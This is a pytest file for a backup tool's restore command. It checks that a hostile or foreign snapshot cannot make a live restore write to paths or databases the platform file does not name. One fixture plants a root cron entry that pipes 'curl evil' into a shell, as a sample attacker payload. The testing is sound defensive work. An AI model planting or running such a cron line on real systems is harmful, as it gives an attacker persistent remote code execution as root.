"""A hostile or damaged repository must not steer a live platform restore: the platform file
decides which paths and databases are written, never what a snapshot records."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

from conftest import run_cli, write_file


def _platform_file(path: Path, repo: Path, components: list[dict]) -> Path:
    path.write_text(
        json.dumps(
            {
                "repository": str(repo),
                "platform": "clinic",
                "strategy": "hot",
                "components": components,
            }
        )
    )
    return path


def _database(path: Path, rows: list[str]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with sqlite3.connect(path) as db:
        db.execute("create table if not exists notes (body text)")
        db.execute("delete from notes")
        db.executemany("insert into notes values (?)", [(row,) for row in rows])


def _rows(path: Path) -> list[str]:
    with sqlite3.connect(path) as db:
        return [row[0] for row in db.execute("select body from notes order by rowid")]


def test_a_crafted_snapshot_cannot_make_a_live_restore_write_elsewhere(
    repo: Path, tmp_path: Path
) -> None:
    site = tmp_path / "site"
    write_file(site / "uploads" / "doc.txt", b"the real upload\n")
    _database(site / "app.db", ["real"])
    victim = tmp_path / "victimdir"  # never named by the real platform file
    victim_db = tmp_path / "victim.db"
    good = _platform_file(
        tmp_path / "good.yaml",
        repo,
        [
            {"name": "uploads", "type": "files", "paths": [str(site / "uploads")]},
            {"name": "appdb", "type": "sqlite", "path": str(site / "app.db")},
            {"name": "notes", "type": "files", "paths": [str(site / "notes")]},
        ],
    )
    write_file(site / "notes" / "n.txt", b"notes v1\n")
    # The attacker's snapshot: the same platform and component names, other places.
    write_file(victim / "cron.d" / "evil", b"* * * * * root curl evil | sh\n")
    _database(victim_db, ["evil"])
    hostile = _platform_file(
        tmp_path / "hostile.yaml",
        repo,
        [
            {"name": "uploads", "type": "files", "paths": [str(victim)]},
            {"name": "appdb", "type": "sqlite", "path": str(victim_db)},
            {"name": "notes", "type": "files", "paths": [str(site / "notes")]},
        ],
    )
    assert run_cli("backup", "--config", hostile).code == 0
    # The victim's real state afterwards.
    (victim / "cron.d" / "evil").unlink()
    write_file(victim / "keep.txt", b"the victim's own file\n")
    _database(victim_db, ["victim's own"])
    (site / "notes" / "n.txt").write_text("notes v2\n")

    plan = run_cli("restore", "--config", good, "--dry-run")
    assert plan.code == 0, plan.err
    assert "uploads: REFUSED" in plan.out and "appdb: REFUSED" in plan.out
    assert str(victim) not in plan.out.replace(f"path '{victim}'", "")

    result = run_cli("restore", "--config", good, "--yes")

    assert result.code == 3, result.err
    assert "uploads: not restored" in result.err and str(victim) in result.err
    assert "appdb: not restored" in result.err and "platform file does not name" in result.err
    assert sorted(p.name for p in victim.iterdir()) == ["cron.d", "keep.txt"]
    assert not (victim / "cron.d" / "evil").exists()
    assert not list(tmp_path.glob("victimdir.safehold-*"))  # nothing moved aside either
    assert _rows(victim_db) == ["victim's own"]
    assert (site / "uploads" / "doc.txt").read_bytes() == b"the real upload\n"
    assert _rows(site / "app.db") == ["real"]
    assert (site / "notes" / "n.txt").read_text() == "notes v1\n"  # the sound one is restored


def test_a_snapshot_listing_an_unnamed_database_is_refused_for_that_component(
    repo: Path, tmp_path: Path
) -> None:
    site = tmp_path / "site"
    _database(site / "a.db", ["a"])
    _database(site / "b.db", ["b"])
    other = _platform_file(
        tmp_path / "other.yaml",
        repo,
        [{"name": "dbs", "type": "sqlite", "path": str(site / "b.db")}],
    )
    only_a = _platform_file(
        tmp_path / "a.yaml",
        repo,
        [{"name": "dbs", "type": "sqlite", "path": str(site / "a.db")}],
    )
    assert run_cli("backup", "--config", other).code == 0
    _database(site / "b.db", ["b changed"])
    result = run_cli("restore", "--config", only_a, "--yes")
    assert result.code == 3
    assert "dbs: not restored" in result.err and "b.db" in result.err
    assert _rows(site / "b.db") == ["b changed"]
    target = tmp_path / "look"  # to look at such a snapshot, extract it
    extracted = run_cli("restore", "--config", only_a, "--target", target)
    assert extracted.code == 0, extracted.err
    assert (target / "dbs" / "b.db").exists()


def test_a_snapshot_of_another_platform_is_refused(repo: Path, tmp_path: Path) -> None:
    site = tmp_path / "site"
    write_file(site / "x" / "f", b"x")
    first = _platform_file(
        tmp_path / "one.yaml", repo, [{"name": "x", "type": "files", "paths": [str(site / "x")]}]
    )
    assert run_cli("backup", "--config", first).code == 0
    snapshot_id = run_cli("snapshots", "--repo", repo, "--json").json()[0]["id"]
    document = json.loads(first.read_text()) | {"platform": "other"}
    second = tmp_path / "two.yaml"
    second.write_text(json.dumps(document))
    result = run_cli("restore", "--config", second, snapshot_id, "--yes")
    assert result.code == 2 and "not of platform other" in result.err
